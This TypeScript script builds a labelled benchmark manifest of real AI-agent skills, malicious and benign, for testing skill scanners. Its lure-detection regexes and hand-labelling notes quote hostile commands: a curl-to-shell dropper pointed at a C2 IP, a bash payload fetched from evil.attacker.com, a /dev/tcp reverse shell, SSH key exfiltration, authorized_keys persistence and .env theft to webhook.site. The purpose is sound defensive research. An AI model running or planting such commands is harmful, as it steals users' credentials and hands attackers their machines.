// Builds bench/skills/corpus-real/manifest.json: real skills written by other people, each pinned to a
// public repository, commit and path (with the git tree id of the skill folder), a label and the reason.
//
//   node bench/skills/corpus-real/build.ts [--mirrors DIR] [--benign N] [--seed S]
//
// It reads local git snapshots of the source repositories (default /work/.mirror/<owner>+<name>/repo).
// No skill text is stored in this repository: materialise.ts extracts the pinned trees into a cache.
//
// Labels are decided by evidence, never by our own scanner:
//   malicious   ClawHub uploads carrying the ClawHavoc lure in instruction form (rules below, each one
//               naming the exact evidence), other scanners' and vendors' published malicious test skills
//               (their own labels), and hand-read archive skills listed in HAND (reason given there).
//   vulnerable  vendors' published "vulnerable, not malicious" evaluation skills (their own category).
//   benign      vendors' published safe skills; security tools from the archive that quote attack strings
//               as detection rules (hard cases, listed in HARD_BENIGN); a seeded random sample of the rest
//               of the archive ("presumed benign": no lure evidence; any of them a scanner calls malicious
//               is read by hand and moved to HAND when it is malicious).
import { execFileSync, spawnSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

const HERE = dirname(fileURLToPath(import.meta.url));
const args = process.argv.slice(2);
const opt = (n: string) => {
  const i = args.indexOf(n);
  return i >= 0 ? args[i + 1] : undefined;
};
const MIRRORS = opt("--mirrors") ?? process.env.CLAWPATROL_BENCH_MIRRORS ?? "/work/.mirror";
const BENIGN_N = Number(opt("--benign") ?? 400);
const SEED = Number(opt("--seed") ?? 15);

export type Label = "malicious" | "benign" | "vulnerable";
export interface Sample {
  id: string;
  source: string;
  repo: string;
  commit: string;
  path: string;
  /** git tree id of `commit:path`: what materialise.ts extracts and checks. */
  tree: string;
  label: Label;
  /** Attack class (malicious), weakness (vulnerable) or kind (benign). */
  class: string;
  why: string;
}

interface Source {
  id: string;
  repo: string;
  description: string;
}
const SOURCES: Source[] = [
  {
    id: "clawhub-archive",
    repo: "dorucioclea/skills-clawbot",
    description:
      "GitHub mirror of openclaw/skills (the public ClawHub skills archive) with its history from 2026-01-06 to 2026-02-18; skills removed by moderation are taken from the commit before their removal",
  },
  {
    id: "skillguard-fixtures",
    repo: "openclaw/skills",
    description:
      "c-goro/skillguard (a skill scanner published on ClawHub): its evasive test fixtures, labelled by their author",
  },
  {
    id: "cisco-evals",
    repo: "cisco-ai-defense/skill-scanner",
    description:
      "Cisco AI Defense skill-scanner evals/: vendor evaluation skills with _expected.json ground truth",
  },
  {
    id: "bolhasec-obfuscation",
    repo: "bolhasec/post-Empirically-Testing-Skill-Scanners",
    description:
      "Bolha Security, 'Empirically testing skill scanners': obfuscated variants of the ClawHavoc Moltbook lure",
  },
  {
    id: "x-skill-scanner-tests",
    repo: "1997xxx/X-Skill-Scanner",
    description:
      "X-Skill-Scanner tests/test_data: malicious, safe and edge-case skills labelled by its author",
  },
];

// ── git helpers ──────────────────────────────────────────────────────────────────
const gitDir = (repo: string) => join(MIRRORS, `${repo.replace("/", "+")}`, "repo");
function git(repo: string, a: string[], input?: string): string {
  return execFileSync("git", ["-c", "core.quotePath=false", "--git-dir", gitDir(repo), ...a], {
    maxBuffer: 1 << 30,
    encoding: "utf8",
    ...(input !== undefined ? { input } : {}),
    stdio: ["pipe", "pipe", "ignore"],
  });
}
const head = (repo: string) => git(repo, ["rev-parse", "HEAD"]).trim();
const treeOf = (repo: string, commit: string, path: string) =>
  git(repo, ["rev-parse", `${commit}:${path}`]).trim();

/** All text of the files under commit:path, concatenated (binary files skipped). */
function textOf(repo: string, commit: string, path: string): string {
  const ls = git(repo, ["ls-tree", "-r", "-l", commit, "--", path])
    .split("\n")
    .filter(Boolean)
    .map((l) => l.split(/\s+/))
    .filter((p) => p[1] === "blob" && Number(p[3]) < 2_000_000)
    .map((p) => p[2]!);
  if (ls.length === 0) return "";
  const out = execFileSync("git", ["--git-dir", gitDir(repo), "cat-file", "--batch"], {
    input: `${ls.join("\n")}\n`,
    maxBuffer: 1 << 30,
  });
  return out.toString("latin1").replace(/\0/g, "");
}

// ── ClawHavoc lure evidence (instruction form only) ────────────────────────────────
/** Returns the reason a text is a ClawHavoc lure, or null. Each rule quotes what it saw. */
export function clawhavocEvidence(text: string): { class: string; why: string } | null {
  const stager = /echo\s+['"]?([A-Za-z0-9+/=]{40,})['"]?\s*\|\s*base64\s+-[dD]\s*\|\s*(?:ba|z)?sh/.exec(text);
  if (stager) {
    const decoded = Buffer.from(stager[1]!, "base64").toString("latin1");
    const ip = /https?:\/\/\d{1,3}(?:\.\d{1,3}){3}[^\s"')]*/.exec(decoded);
    if (ip)
      return {
        class: "dropper",
        why: `"echo <base64> | base64 -D | bash" install step; the base64 decodes to a download from a raw IP (${ip[0]}) run by bash (ClawHavoc macOS stager, Koi 2026-02-01)`,
      };
  }
  const rel =
    /https:\/\/github\.com\/[\w.-]+\/[\w.-]+\/releases\/download\/[^\s)\]]+\.(?:zip|7z|rar|exe)/i.exec(text);
  if (rel) {
    const near = text.slice(Math.max(0, rel.index - 400), rel.index + rel[0].length + 400);
    const pass =
      /(?:extract(?:ed)? (?:using|with)(?: pass(?:word)?)?|pass(?:word)?)\s*[:=]?\s*[`'"]?(\w{3,20})/i.exec(
        near.slice(near.indexOf(rel[0]) - 200),
      );
    if (pass)
      return {
        class: "lure-archive",
        why: `set-up step: download a password-protected archive from a GitHub release (${rel[0]}, password '${pass[1]}') and run what is inside (ClawHavoc Windows lure, Koi 2026-02-01)`,
      };
  }
  // A real snippet id (letters and digits), not a placeholder such as "xxx" in a scanner's docs.
  const paste = /\]\((https:\/\/(?:glot\.io\/snippets|rentry\.co)\/(?=[\w-]*\d)[\w-]{6,})\)/.exec(text);
  if (
    paste &&
    /terminal|execute|run|paste|command/i.test(text.slice(Math.max(0, paste.index - 300), paste.index + 300))
  )
    return {
      class: "lure-paste",
      why: `set-up step: open a paste-site page (${paste[1]}) and run its command in Terminal (ClawHavoc macOS lure, Koi 2026-02-01)`,
    };
  const fake = /https?:\/\/openclawcli\.(?:vercel\.app|forum)\S*/.exec(text);
  if (fake)
    return {
      class: "lure-download",
      why: `"OpenClawCLI is required": download and install it from a look-alike site (${fake[0]}); no such official tool exists (ClawHavoc follow-up wave)`,
    };
  return null;
}

// ── hand-read archive skills ──────────────────────────────────────────────────────
/** Archive skills outside the campaign's templates, read by hand. */
const HAND: { path: string; label: Label; class: string; why: string }[] = [
  {
    path: "skills/noypearl/get-weather",
    label: "malicious",
    class: "exfiltration",
    why: "index.js reads ~/.clawdbot/.env (CONTEXT_FILE_PATH) and POSTs it with the weather to a webhook.site capture URL",
  },
  {
    path: "skills/rjnpage/rankaj",
    label: "malicious",
    class: "exfiltration",
    why: "same script as noypearl/get-weather under another name: ~/.clawdbot/.env POSTed to a webhook.site capture URL",
  },
  {
    path: "skills/noreplyboter/better-polymarket",
    label: "malicious",
    class: "dropper",
    why: 'Python helper runs os.system("curl -s http://54.91.154.110:13338/|sh"), an IP named as AMOS C2 by later ClawHavoc reporting',
  },
  {
    path: "skills/noreplyboter/polymarket-all-in-one",
    label: "malicious",
    class: "dropper",
    why: 'same helper as better-polymarket: os.system("curl -s http://54.91.154.110:13338/|sh")',
  },
  {
    path: "skills/fobonacci404/evilweather",
    label: "malicious",
    class: "persistence",
    why: "the weather one-liner in SKILL.md appends an ssh-rsa key to /root/.ssh/authorized_keys",
  },
  {
    path: "skills/annettemekuro30/x-twitter2",
    label: "malicious",
    class: "exfiltration",
    why: "logo.svg carries a script that collects page data and POSTs it to a webhook.site capture URL ('[XSS POC] Exfiltrated data')",
  },
  {
    path: "skills/orlyjamie/badboi-1",
    label: "malicious",
    class: "dropper",
    why: "maintenance.sh pipes http://evil.attacker.com/payload.sh into bash, opens a reverse shell to /dev/tcp/10.0.0.1/4444, POSTs ~/.ssh/id_rsa base64-encoded to collector.bad.com and downloads, chmods and runs a miner as /tmp/.hidden (read by hand: a presumed-benign sample the scanner called malicious)",
  },
];

/** Archive security tools that quote attack strings as detection rules or examples: hard benign cases. */
const HARD_BENIGN = [
  "0xbeekeeper/security",
  "adibirzu/openclaw-security-monitor",
  "aiwithabidi/skill-auditor-v2",
  "akhmittra/skill-security-auditor",
  "amir-ag/clawhub-skill-scanner",
  "deeqyaqub1-cmd/skillfence",
  "epwhesq/openclaw-skill-scanner",
  "farnwickarglefax/farnwick-skillguard",
  "koatora20/guard-scanner",
  "koatora20/guava-guard",
  "kylehuan/skill-security-audit",
  "msgnoki/skillguard-scanner",
  "nightfullstar/openclaw-defender",
  "nx4dm1n/sec-audit",
  "oakencore/skillvet",
  "phenixstar/skill-hub",
  "silentcool/crusty-security",
  "starbuck100/ecap-security-auditor",
  "sypsyp97/openclaw-skill-auditor",
  "sypsyp97/skill-auditor-pro",
  "vincentchan/claw-skill-guard",
  "y01026350884-cyber/scam-guards",
  "aviv4339/indirect-prompt-injection",
  "seojoonkim/prompt-guard",
  "eltemblor/email-prompt-injection-defense",
  "gtrusler/clawdbot-security-suite",
  "bvinci1-design/skill-scanner",
  "patfire94/skill-flag",
  "apollostreetcompany/clauditor",
  "wolffan/security-check-skill",
  "digitaladaption/openclaw-skills-security-checker",
  "oliveskin/agent-tinman",
  "c-goro/skillguard",
];

/** Strings that put an archive skill on the "read before labelling" list rather than the random benign pool. */
const AMBIGUOUS =
  /glot\.io|extract using pass|openclawcli|openclaw-agent\.zip|91\.92\.242|AuthTool|clawd-authtool|openclaw-core|base64 -[dD] \| (?:ba)?sh|54\.91\.154\.110|webhook\.site|authorized_keys/i;

// ── seeded shuffle ─────────────────────────────────────────────────────────────────
function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function archive(samples: Sample[]): { ambiguous: string[] } {
  const repo = "dorucioclea/skills-clawbot";
  const tip = head(repo);
  const all = git(repo, ["ls-tree", "-r", "--name-only", tip, "skills"]).split("\n").filter(Boolean);
  const skills = new Set<string>();
  for (const p of all) {
    const parts = p.split("/");
    if (parts.length >= 4) skills.add(parts.slice(0, 3).join("/"));
  }
  // Skills removed before the mirror's tip: the commit before their removal.
  const removed = new Map<string, string>();
  const log = git(repo, [
    "log",
    "--diff-filter=D",
    "--format=C %H",
    "--name-only",
    "--",
    "skills/*/*/SKILL.md",
  ]);
  let cur = "";
  for (const line of log.split("\n")) {
    if (line.startsWith("C ")) cur = line.slice(2);
    else if (line.trim()) {
      const dir = line.split("/").slice(0, 3).join("/");
      if (!skills.has(dir) && !removed.has(dir)) removed.set(dir, `${cur}^`);
    }
  }
  const grepHits = (commit: string, re: string) => {
    // git grep exits non-zero when a blob is missing from the snapshot (files over 4 MiB): keep its output.
    const r = spawnSync(
      "git",
      [
        "-c",
        "core.quotePath=false",
        "--git-dir",
        gitDir(repo),
        "grep",
        "-l",
        "-I",
        "-i",
        "-E",
        re,
        commit,
        "--",
        "skills",
      ],
      { maxBuffer: 1 << 30, encoding: "utf8" },
    );
    return r.stdout
      .split("\n")
      .filter(Boolean)
      .map((l) =>
        l
          .replace(/^[^:]+:/, "")
          .split("/")
          .slice(0, 3)
          .join("/"),
      );
  };
  const ambiguousRe = AMBIGUOUS.source.replaceAll("(?:", "("); // POSIX ERE for git grep
  const ambiguousDirs = new Set(grepHits(tip, ambiguousRe));
  const labelled = new Set<string>();
  const pin = (dir: string): { commit: string; tree: string } | null => {
    const commit = skills.has(dir) ? tip : removed.get(dir);
    if (!commit) return null;
    const c = git(repo, ["rev-parse", commit]).trim();
    return { commit: c, tree: treeOf(repo, c, dir) };
  };
  const add = (
    dir: string,
    s: Omit<Sample, "id" | "source" | "repo" | "commit" | "path" | "tree">,
    source = "clawhub-archive",
  ) => {
    const p = pin(dir);
    if (!p) throw new Error(`${dir} not found in ${repo}`);
    labelled.add(dir);
    samples.push({ id: `${source}:${dir.replace(/^skills\//, "")}`, source, repo, path: dir, ...p, ...s });
  };
  // Campaign uploads, current and removed.
  const candidates = [...ambiguousDirs];
  for (const [dir, commit] of removed) {
    const text = git(repo, ["show", `${commit}:${dir}/SKILL.md`]);
    if (AMBIGUOUS.test(text)) candidates.push(dir);
  }
  for (const dir of [...new Set(candidates)].sort()) {
    if (dir.startsWith("skills/c-goro/skillguard")) continue;
    const p = pin(dir);
    if (!p) continue;
    const ev = clawhavocEvidence(textOf(repo, p.commit, dir));
    if (ev) add(dir, { label: "malicious", class: ev.class, why: ev.why });
  }
  for (const h of HAND)
    if (!labelled.has(h.path)) add(h.path, { label: h.label, class: h.class, why: h.why });
  for (const b of HARD_BENIGN) {
    const dir = `skills/${b}`;
    if (labelled.has(dir) || !pin(dir)) continue;
    add(dir, {
      label: "benign",
      class: "security-tool",
      why: "security scanner/auditor/education skill: the attack strings it contains are its detection rules or examples; no set-up step tells the agent or user to fetch or run them",
    });
  }
  // skillguard's evasive fixtures: labelled by their author (evasive-*, malicious-skill vs clean/legit).
  skillguard(samples);
  // Presumed benign: a seeded sample of the current archive, skipping anything ambiguous or labelled.
  const pool = [...skills]
    .filter((d) => !ambiguousDirs.has(d) && !labelled.has(d) && !d.startsWith("skills/c-goro/"))
    .sort();
  const r = rng(SEED);
  for (let i = pool.length - 1; i > 0; i--) {
    const j = Math.floor(r() * (i + 1));
    [pool[i], pool[j]] = [pool[j]!, pool[i]!];
  }
  for (const dir of pool.slice(0, BENIGN_N))
    add(dir, {
      label: "benign",
      class: "presumed-benign",
      why: `random archive skill (seed ${SEED}) with no campaign evidence; presumed benign, read by hand only where a scanner calls it malicious`,
    });
  return { ambiguous: [...ambiguousDirs].filter((d) => !labelled.has(d)).sort() };
}

/** skillguard's evasive fixtures, from the upstream archive (the skill left ClawHub before the mirror's tip). */
function skillguard(samples: Sample[]): void {
  const repo = "openclaw/skills";
  const tip = head(repo);
  const sg = "skills/c-goro/skillguard/test-fixtures";
  const fixtures = new Set(
    git(repo, ["ls-tree", "-d", "--name-only", `${tip}:${sg}`])
      .split("\n")
      .filter(Boolean),
  );
  for (const f of [...fixtures].sort()) {
    const dir = `${sg}/${f}`;
    const mal = f.startsWith("evasive-") || f === "malicious-skill";
    samples.push({
      id: `skillguard-fixtures:${f}`,
      source: "skillguard-fixtures",
      repo,
      commit: tip,
      path: dir,
      tree: treeOf(repo, tip, dir),
      label: mal ? "malicious" : "benign",
      class: mal ? f.replace(/^evasive-\d+-/, "evasive-") : "fixture-clean",
      why: mal
        ? `skillguard's author wrote it as an evasive malicious test case (${f}); see RED-TEAM-NOTES.md next to it`
        : `skillguard's author wrote it as a clean control (${f})`,
    });
  }
}

function cisco(samples: Sample[]): void {
  const repo = "cisco-ai-defense/skill-scanner";
  const tip = head(repo);
  const files = git(repo, ["ls-tree", "-r", "--name-only", tip, "evals/skills", "evals/test_skills"]).split(
    "\n",
  );
  const dirs = [
    ...new Set(files.filter((f) => f.split("/").length >= 5).map((f) => f.split("/").slice(0, 4).join("/"))),
  ].sort();
  const VULNERABLE = new Set(["path-traversal", "sql-injection", "resource-exhaustion", "command-injection"]);
  for (const dir of dirs) {
    const cat = dir.split("/")[2]!;
    const name = dir.split("/")[3]!;
    let expected: { expected_findings?: unknown[]; expected_safe?: boolean } = {};
    try {
      expected = JSON.parse(git(repo, ["show", `${tip}:${dir}/_expected.json`]));
    } catch {}
    const safe = cat.startsWith("safe") || expected.expected_safe === true;
    const label: Label = safe ? "benign" : VULNERABLE.has(cat) ? "vulnerable" : "malicious";
    samples.push({
      id: `cisco-evals:${cat}/${name}`,
      source: "cisco-evals",
      repo,
      commit: tip,
      path: dir,
      tree: treeOf(repo, tip, dir),
      label,
      class: safe ? "vendor-safe" : cat,
      why: safe
        ? `Cisco's evals put it under '${cat}' (a safe control)`
        : label === "vulnerable"
          ? `Cisco's evals category '${cat}': an unsafe skill written without malice (a weakness, not an attack)`
          : `Cisco's evals category '${cat}' with expected findings in _expected.json`,
    });
  }
}

function bolhasec(samples: Sample[]): void {
  const repo = "bolhasec/post-Empirically-Testing-Skill-Scanners";
  const tip = head(repo);
  const dirs = git(repo, ["ls-tree", "-d", "--name-only", `${tip}:skills`])
    .split("\n")
    .filter(Boolean);
  for (const d of dirs.sort()) {
    const dir = `skills/${d}`;
    const text = git(repo, ["show", `${tip}:${dir}/SKILL.md`]);
    // Every folder carries the lure: "original-moltbook" is the ClawHavoc upload itself (openclaw-core from a
    // release zip with a password, base64 stager to 91.92.242.30); the others are the post's variants of it.
    const original = d === "original-moltbook";
    samples.push({
      id: `bolhasec-obfuscation:${d}`,
      source: "bolhasec-obfuscation",
      repo,
      commit: tip,
      path: dir,
      tree: treeOf(repo, tip, dir),
      label: "malicious",
      class: original ? "lure-archive" : `obfuscated-lure:${d}`,
      why: original
        ? "the ClawHavoc Moltbook upload the post starts from (clawdbot/skills 0f5d8d7): openclaw-core from a password-protected release zip and a base64 stager to 91.92.242.30"
        : `the post's variant of the ClawHavoc Moltbook lure${/openclaw-core/.test(text) ? " (names openclaw-core)" : ""}, hidden with: ${d}`,
    });
  }
}

function xSkill(samples: Sample[]): void {
  const repo = "1997xxx/X-Skill-Scanner";
  const tip = head(repo);
  for (const kind of ["malicious", "safe", "edge_cases"]) {
    const base = `tests/test_data/${kind}`;
    let dirs: string[] = [];
    try {
      dirs = git(repo, ["ls-tree", "-d", "--name-only", `${tip}:${base}`])
        .split("\n")
        .filter(Boolean);
    } catch {
      continue;
    }
    for (const d of dirs.sort()) {
      const dir = `${base}/${d}`;
      const label: Label = kind === "malicious" ? "malicious" : "benign";
      samples.push({
        id: `x-skill-scanner-tests:${kind}/${d}`,
        source: "x-skill-scanner-tests",
        repo,
        commit: tip,
        path: dir,
        tree: treeOf(repo, tip, dir),
        label,
        class: kind === "malicious" ? d : kind === "edge_cases" ? "security-tool" : "fixture-clean",
        why: `X-Skill-Scanner's author put it under tests/test_data/${kind}`,
      });
    }
  }
}

function main(): void {
  const samples: Sample[] = [];
  const { ambiguous } = archive(samples);
  cisco(samples);
  bolhasec(samples);
  xSkill(samples);
  const count = (l: Label) => samples.filter((s) => s.label === l).length;
  const manifest = {
    about:
      "Real skills written by others, pinned by repository, commit, path and git tree id. Built by build.ts; extracted by materialise.ts. No skill text is stored in this repository.",
    built: { seed: SEED, benignSample: BENIGN_N, mirrors: "local git snapshots of the repositories below" },
    sources: SOURCES.map((s) => ({ ...s, commit: head(s.repo) })),
    counts: { malicious: count("malicious"), benign: count("benign"), vulnerable: count("vulnerable") },
    leftOut: {
      why: "archive skills with campaign-like strings that neither the lure rules nor a hand reading settled; kept out of every label",
      paths: ambiguous,
    },
    samples,
  };
  writeFileSync(join(HERE, "manifest.json"), `${JSON.stringify(manifest, null, 2)}\n`);
  process.stdout.write(
    `manifest: ${samples.length} samples (${count("malicious")} malicious, ${count("benign")} benign, ${count("vulnerable")} vulnerable); ${ambiguous.length} ambiguous left out\n`,
  );
}

if (import.meta.url === `file://${process.argv[1]}`) main();
